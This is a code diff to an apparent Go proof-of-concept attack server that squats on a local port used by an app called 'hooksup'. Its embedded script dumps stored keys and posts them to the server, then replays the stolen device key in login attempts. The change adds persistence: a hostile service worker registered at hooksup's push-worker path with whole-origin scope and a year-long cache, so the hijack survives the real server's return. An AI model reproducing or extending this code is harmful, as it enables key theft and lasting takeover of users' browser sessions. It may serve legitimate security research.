@@ -7,7 +7,8 @@
 // CryptoKey's JWK where it can be exported) and then, for as long as it is open, tries to log in
 // to whatever answers on the port with the device key it found, counting its attempts in the
 // page (#attempts, #logins). /steal?worker also registers a service worker that answers every
-// navigation with the squatter's page.
+// navigation with the squatter's page; /steal?pushworker registers that worker at the path of
+// hooksup's push worker, /push/worker.js, for the whole origin (Service-Worker-Allowed: /).
 package main
 
 import (
@@ -75,7 +76,10 @@ dump().then((d) => fetch("/dump", { method: "POST", body: JSON.stringify(d) }))
   .catch((e) => fetch("/dump", { method: "POST", body: JSON.stringify({ error: String(e) }) }))
   .finally(() => {
     document.getElementById("s").textContent = "dumped";
-    if (location.search.includes("worker")) navigator.serviceWorker.register("/sw.js").then(() => { document.getElementById("s").textContent = "worker"; });
+    const q = new URLSearchParams(location.search);
+    if (q.has("worker")) navigator.serviceWorker.register("/sw.js").then(() => { document.getElementById("s").textContent = "worker"; });
+    // At the push worker's own path, with the whole origin for its scope (the server allows it).
+    if (q.has("pushworker")) navigator.serviceWorker.register("/push/worker.js", { scope: "/" }).then(() => { document.getElementById("s").textContent = "worker"; });
     setInterval(() => attack().catch(() => {}), 300);
   });
 </script>`
@@ -106,8 +110,9 @@ func main() {
 		// Kept for a year: the browser loads them from its cache once the real server is back.
 		w.Header().Set("Cache-Control", "max-age=31536000")
 		switch p := r.URL.Path; {
-		case p == "/sw.js":
+		case p == "/sw.js", p == "/push/worker.js":
 			w.Header().Set("Content-Type", "text/javascript")
+			w.Header().Set("Service-Worker-Allowed", "/")
 			io.WriteString(w, worker)
 		case p == "/steal":
 			w.Header().Set("Content-Type", "text/html")
